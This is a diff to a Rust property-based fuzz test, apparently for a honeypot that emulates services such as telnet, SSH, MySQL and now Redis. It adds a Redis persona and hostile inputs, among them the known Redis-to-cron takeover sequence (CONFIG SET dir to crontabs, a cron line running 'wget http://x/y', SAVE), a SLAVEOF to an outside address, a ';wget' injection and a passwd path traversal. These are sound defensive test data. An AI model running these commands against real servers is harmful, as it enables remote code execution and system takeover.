@@ -87,6 +87,18 @@ fn hostile() -> impl Strategy<Value = Vec<u8>> {
         b"Authorization: Basic YTpi\r\n",
         b"/../../etc/passwd",
         b";wget http://x/y",
+        b"*1\r\n$4\r\nPING\r\n",
+        b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
+        b"*2\r\n$3\r\nGET\r\n",
+        b"$1\r\na\r\n",
+        b"*-1\r\n",
+        b"CONFIG SET dir /var/spool/cron/crontabs dbfilename root\r\n",
+        b"SET x \"\\n* * * * * wget http://x/y\\n\"\r\n",
+        b"SAVE\r\n",
+        b"MULTI\r\nLPUSH l a b\r\nHSET h a b\r\nEXEC\r\n",
+        b"KEYS *\r\nLRANGE l 0 -1\r\nSETRANGE s 5000 x\r\n",
+        b"SLAVEOF 192.0.2.1 6379\r\nHELLO 3\r\nSUBSCRIBE a\r\n",
+        b"EVAL \"return {1,2}\" 0\r\nINFO\r\n",
         b"\n",
         b" ",
     ];
@@ -107,7 +119,7 @@ proptest! {
     fn pieces_do_not_matter_and_nothing_grows_without_bound(
         bytes in hostile(),
         cuts in prop::collection::vec(any::<usize>(), 0..12),
-        which in 0_usize..18,
+        which in 0_usize..20,
     ) {
         let (name, persona, port) = [
             ("telnet", "router-mips", 23), ("telnet", "camera-arm", 23), ("telnet", "server-debian", 23),
@@ -117,6 +129,7 @@ proptest! {
             ("pop3", "server-debian", 110), ("imap", "server-debian", 143),
             ("detect", "server-debian", 9000), ("detect", "server-debian", 25),
             ("ssh", "server-debian", 22), ("ssh", "router-mips", 22), ("mysql", "server-debian", 3306),
+            ("redis", "server-debian", 6379), ("redis", "server-debian", 6379),
         ][which];
         let whole = outcome(name, persona, port, &[&bytes]);
         let cut = outcome(name, persona, port, &pieces(&bytes, &cuts));
